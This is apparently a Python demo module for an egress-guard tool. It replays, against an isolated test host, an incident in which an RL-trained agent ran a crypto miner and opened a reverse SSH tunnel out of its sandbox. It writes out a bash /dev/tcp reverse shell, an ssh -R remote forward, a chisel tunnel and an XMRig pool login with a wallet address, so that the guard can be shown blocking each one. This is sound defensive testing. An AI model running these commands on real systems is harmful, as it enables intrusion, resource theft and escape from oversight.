# SPDX-License-Identifier: Apache-2.0
"""The incident egress-guard exists for, replayed in the demo's sandbox.

During RL training an agent started a crypto miner and opened a reverse SSH
tunnel out of its sandbox, unprompted. Four steps try what it did, and what
a determined agent tries next, against the demo's test host (a network
namespace, 198.18.0.0/15, no route out):

  miner           a pool login (XMRig's, by XMRig itself if one is given or on
                  PATH, else by a stand-in that sends XMRig 6.16.0's login
                  line): the kernel holds the first payload, the agent
                  recognises the login and drops it; the pool gets 0 bytes
  ssh-reverse     `ssh -R` (OpenSSH's client if installed, else a stand-in: an
                  executable named ssh that sends OpenSSH's banner): stopped at
                  exec, its argv read, its connects refused; the server never
                  sees a connection
  reverse-shell   `bash -i >& /dev/tcp/HOST/PORT 0>&1`: stopped at exec and
                  killed before it connects
  tunnel          a chisel client (a stand-in that sends chisel's WebSocket
                  upgrade): a tunnel tool by its exec, its connects refused

Each step is a Step: what it runs, the event that must explain it, and how
its outcome is judged from what the test host's server saw (ServerLog) and
how the program ended. Nothing here starts or stops the agent (run.py does).
"""
from __future__ import annotations

import os
import shlex
import shutil
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

#: Ports of the test host's servers, one per step.
POOL_PORT = 443          # a pool on 443: no port rule would have caught it
SSH_PORT = 22
SHELL_PORT = 4444
TUNNEL_PORT = 8000
INCIDENT_PORTS = (POOL_PORT, SSH_PORT, SHELL_PORT, TUNNEL_PORT)

WALLET = ("44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2"
          "wfn3RVGQBEP3A")
#: The login line XMRig 6.16.0 sends first (its shape: tests/fixtures/payloads).
XMRIG_LOGIN = (
    '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"' + WALLET + '","pass":"x",'
    '"agent":"XMRig/6.16.0 (Linux x86_64) libuv/1.38.0 gcc/9.3.0","rigid":"","algo":["cn/1",'
    '"cn/2","cn/r","cn/fast","cn/half","cn/xao","cn/rto","cn/rwz","cn/zls","cn/double",'
    '"cn/ccx","cn-lite/1","cn-heavy/0","cn-heavy/tube","cn-heavy/xhv","cn-pico","cn-pico/tlo",'
    '"cn/upx2","rx/0","rx/wow","rx/arq","rx/graft","rx/sfx","rx/keva","argon2/chukwa",'
    '"argon2/chukwav2","argon2/ninja","astrobwt","astrobwt/v2"]}}\n')
XMRIG_ARGS = ["--no-color", "--cpu-max-threads-hint=1", "--print-time=3600",
              "--donate-level=1", "--randomx-no-numa"]

#: A client stand-in: connect to argv HOST PORT, send PAYLOAD, wait for the
#: answer; print what happened as one word (ok, an errno name, eof, timeout).
CLIENT = r'''
import errno, socket, sys
host, port = sys.argv[-2], int(sys.argv[-1])
try:
    conn = socket.create_connection((host, port), timeout=5)
    conn.sendall(PAYLOAD)
    conn.settimeout(5)
    print("reply" if conn.recv(4096) else "eof")
except socket.timeout:
    print("timeout")
except OSError as exc:
    print(errno.errorcode.get(exc.errno, str(exc.errno)))
'''
SSH_BANNER = b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"


def _chisel_upgrade(host: str, port: int) -> bytes:
    """The request Go's websocket dialer sends for `chisel client` (v1.x)."""
    return (f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: Go-http-client/1.1\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            "Sec-WebSocket-Protocol: chisel-v3\r\nSec-WebSocket-Version: 13\r\n"
            "Upgrade: websocket\r\n\r\n").encode()


class ServerLog:
    """What the test host's server (guard.demo.testserver) reports, read in
    a thread: connections accepted and bytes received, per port."""

    def __init__(self, proc: subprocess.Popen):
        self._lock = threading.Lock()
        self._lines: list[tuple[str, int, int]] = []
        self._thread = threading.Thread(target=self._read, args=(proc.stdout,), daemon=True)
        self._thread.start()

    def _read(self, stream) -> None:
        for line in stream:
            words = line.split()
            if len(words) >= 2 and words[1].isdigit():
                received = int(words[2]) if len(words) > 2 and words[2].isdigit() else 0
                with self._lock:
                    self._lines.append((words[0], int(words[1]), received))

    def seen(self, port: int) -> tuple[int, int]:
        """(connections accepted, bytes received on the closed ones) at port."""
        with self._lock:
            accepted = sum(1 for kind, p, _ in self._lines if kind == "accept" and p == port)
            received = sum(n for kind, p, n in self._lines if kind == "tcp" and p == port)
        return accepted, received

    def closed(self, port: int) -> int:
        with self._lock:
            return sum(1 for kind, p, _ in self._lines if kind == "tcp" and p == port)


@dataclass
class Outcome:
    """How one step ended: what the program and the server saw, in words
    and as facts (for --json), and whether that is the guard stopping it."""
    stopped: bool
    words: str
    facts: dict[str, Any] = field(default_factory=dict)


@dataclass
class Step:
    name: str
    title: str
    argv: list[str]
    port: int
    #: (kind, detection type or None, action) of the event that explains it
    explained_by: tuple[str, str | None, str]
    judge: Callable[["Run"], Outcome]
    why: str
    client: str = "real"       # "real" or "stand-in"
    stdin: Any = subprocess.DEVNULL
    env: dict[str, str] | None = None
    #: how long the program may run before it is ended (a real XMRig retries forever)
    run_s: float = 15.0


@dataclass
class Run:
    """A step's program after it ran: exit code (None: still running when
    ended), its stdout's last line, what the server saw."""
    code: int | None
    said: str
    accepted: int
    received: int


def _exit_words(code: int | None) -> str:
    if code is None:
        return "still running when ended"
    if code < 0:
        return f"killed by {signal.Signals(-code).name}"
    return f"exit {code}"


def _judge_miner(run: Run) -> Outcome:
    seen = run.said or ("kept retrying until it was ended" if run.code is None
                        else _exit_words(run.code))
    facts = {"pool_connections": run.accepted, "pool_bytes": run.received, "client": seen}
    words = (f"the pool accepted {run.accepted} connection(s) and received {run.received} bytes"
             f"; the miner {'saw ' + seen if run.said else seen}")
    return Outcome(run.received == 0, words, facts)


def _judge_ssh(run: Run) -> Outcome:
    facts = {"exit": run.code, "server_connections": run.accepted, "client": run.said}
    if run.said.isupper():    # the stand-in says what its connect got (an errno name)
        how = f"ssh's connect got {run.said}"
    else:
        how = f"ssh {_exit_words(run.code)}" + (f" ({run.said})" if run.said else "")
    words = f"{how}; the SSH server saw {run.accepted} connection(s): the forward never listened"
    refused = run.code not in (None, 0) or run.said == "EPERM"   # ssh: 255; the stand-in says
    return Outcome(run.accepted == 0 and refused, words, facts)


def _judge_shell(run: Run) -> Outcome:
    facts = {"exit": run.code, "listener_connections": run.accepted}
    words = (f"the shell was {_exit_words(run.code)}; the listener saw {run.accepted} "
             f"connection(s): nobody got a shell")
    return Outcome(run.code == -signal.SIGKILL and run.accepted == 0, words, facts)


def _judge_tunnel(run: Run) -> Outcome:
    facts = {"exit": run.code, "server_connections": run.accepted, "client": run.said}
    words = (f"the tunnel client's connect got {run.said or _exit_words(run.code)}; its server "
             f"saw {run.accepted} connection(s): nothing was exposed")
    return Outcome(run.said == "EPERM" and run.accepted == 0, words, facts)


def _script(directory: Path, name: str, body: str) -> str:
    """An executable stand-in called name: a Python script (the exec shows
    `python3 DIR/name ...`, as a tool written in Python would)."""
    path = directory / name
    path.write_text(f"#!{sys.executable}\n# egress-guard demo stand-in for {name}\n{body}")
    path.chmod(0o755)
    return str(path)


def _client_body(payload: bytes) -> str:
    return f"PAYLOAD = {payload!r}\n{CLIENT}"


def _ssh_standin(directory: Path, options: list[str], host_ip: str) -> list[str]:
    """Without OpenSSH's client: a copy of this Python interpreter named ssh
    (an executable called ssh, as the kernel sees a renamed or own-built one;
    a script would exec as python3), run as `ssh -c CODE OPTIONS...`: to ssh
    `-c` names a cipher, to Python the code, which sends an OpenSSH banner to
    the host and port it is given last."""
    path = directory / "ssh"
    shutil.copy2(os.path.realpath(sys.executable), path)
    return [str(path), "-c", _client_body(SSH_BANNER), *options, host_ip, str(SSH_PORT)]


def incident_steps(host_ip: str, workdir: Path, miner: str | None = None,
                   ssh: str | None = None) -> list[Step]:
    """The four steps against the test host at host_ip. miner: an XMRig
    binary to run (else one on PATH, else the stand-in); ssh: the ssh client
    (else the one on PATH, else a stand-in). Stand-ins are written to workdir."""
    home = workdir / "home"
    home.mkdir(exist_ok=True)
    env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": str(home), "LANG": "C.UTF-8"}
    miner = miner or shutil.which("xmrig")
    if miner:
        miner_argv = [miner, "-o", f"{host_ip}:{POOL_PORT}", "-u", WALLET, "-p", "x", *XMRIG_ARGS]
        miner_client, miner_run_s = "real", 8.0
    else:
        standin = _script(workdir, "xmrig", _client_body(XMRIG_LOGIN.encode()))
        miner_argv = [standin, "-o", f"{host_ip}:{POOL_PORT}", "-u", WALLET, "-p", "x",
                      host_ip, str(POOL_PORT)]
        miner_client, miner_run_s = "stand-in", 15.0
    ssh = ssh or shutil.which("ssh")
    forward = f"9000:127.0.0.1:{SSH_PORT}"
    ssh_options = ["-N", "-R", forward, "-p", str(SSH_PORT), "-o", "BatchMode=yes",
                   "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                   "-o", "ConnectTimeout=5", f"agent@{host_ip}"]
    if ssh:
        ssh_argv, ssh_client = [ssh, *ssh_options], "real"
    else:
        ssh_argv, ssh_client = _ssh_standin(workdir, ssh_options, host_ip), "stand-in"
    chisel = _script(workdir, "chisel",
                     _client_body(_chisel_upgrade(host_ip, TUNNEL_PORT)))
    return [
        Step("miner", f"a miner logs in to its pool at {host_ip}:{POOL_PORT}"
             + (" (XMRig)" if miner_client == "real" else
                " (stand-in sending XMRig 6.16.0's login line)"),
             miner_argv, POOL_PORT, ("detection", "stratum", "block"), _judge_miner,
             "the kernel held the flow's first payload until the agent had read it; it is a "
             "mining login, so the flow was dropped and the socket reset: not a byte reached "
             "the pool", client=miner_client, env=env, run_s=miner_run_s),
        Step("ssh-reverse", f"ssh -R {forward} to {host_ip}:{SSH_PORT}"
             + ("" if ssh_client == "real" else " (stand-in named ssh)"),
             ssh_argv, SSH_PORT, ("detection", "ssh_reverse_tunnel", "block"), _judge_ssh,
             "the kernel stopped ssh at exec until the agent had read its argv and the ssh "
             "configs it would read; it asks for a remote forward, so every connect it makes "
             "is refused", client=ssh_client, env=env),
        Step("reverse-shell", f"a reverse shell to {host_ip}:{SHELL_PORT}",
             ["bash", "-c", f"bash -i >& /dev/tcp/{host_ip}/{SHELL_PORT} 0>&1"], SHELL_PORT,
             ("detection", "reverse_shell", "kill"), _judge_shell,
             "the kernel stopped bash at exec; its command line is a reverse shell, so it was "
             "killed before its first instruction", env=env),
        Step("tunnel", f"a chisel tunnel (R:2222:localhost:22) through {host_ip}:{TUNNEL_PORT} "
             "(stand-in sending chisel's WebSocket upgrade)",
             [chisel, "client", f"http://{host_ip}:{TUNNEL_PORT}", "R:2222:localhost:22",
              host_ip, str(TUNNEL_PORT)], TUNNEL_PORT, ("detection", "tunnel_tool", "block"),
             _judge_tunnel,
             "the kernel stopped the tunnel client at exec; it is a tunnelling tool, so its "
             "connects are refused", client="stand-in", env=env),
    ]


def run_step(step: Step, popen: Callable[..., subprocess.Popen], servers: ServerLog,
             end: Callable[[subprocess.Popen], None]) -> Run:
    """Run the step's program in the sandbox (popen), until it exits or
    step.run_s passes (then end it); what the server saw once it settled."""
    before_accepted, before_received = servers.seen(step.port)
    before_closed = servers.closed(step.port)
    proc = popen(step.argv, stdin=step.stdin, stdout=subprocess.PIPE,
                 stderr=subprocess.PIPE, text=True, env=step.env, start_new_session=True)
    try:
        out, err = proc.communicate(timeout=step.run_s)
        code = proc.returncode
    except subprocess.TimeoutExpired:
        end(proc)
        out, err = proc.communicate()
        code = None
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:   # a reset reaches the server a moment later
        accepted, _ = servers.seen(step.port)
        if servers.closed(step.port) - before_closed >= accepted - before_accepted:
            break
        time.sleep(0.05)
    accepted, received = servers.seen(step.port)
    lines = [line.strip() for line in (out or "").splitlines() if line.strip()]
    said = lines[-1] if lines and step.client == "stand-in" else ""
    if not said and step.name == "ssh-reverse":
        said = next((line.strip() for line in (err or "").splitlines()[::-1]
                     if "connect" in line), "")[:120]
    return Run(code, said, accepted - before_accepted, received - before_received)


def command_line(argv: list[str], limit: int = 60) -> str:
    """argv as a shell line, a long or multi-line argument (a stand-in's
    code, a wallet) cut to its start."""
    shown = []
    for arg in argv:
        if "\n" in arg or len(arg) > limit:
            arg = arg.splitlines()[0][:limit // 2] + "..."
        shown.append(shlex.quote(arg))
    return " ".join(shown)


def matches(event: dict, step: Step) -> bool:
    kind, finding, action = step.explained_by
    return (event.get("kind") == kind and event.get("action") == action
            and (finding is None or (event.get("detection") or {}).get("type") == finding))


__all__ = ["INCIDENT_PORTS", "Outcome", "Run", "ServerLog", "Step", "XMRIG_LOGIN",
           "command_line", "incident_steps", "matches", "run_step"]
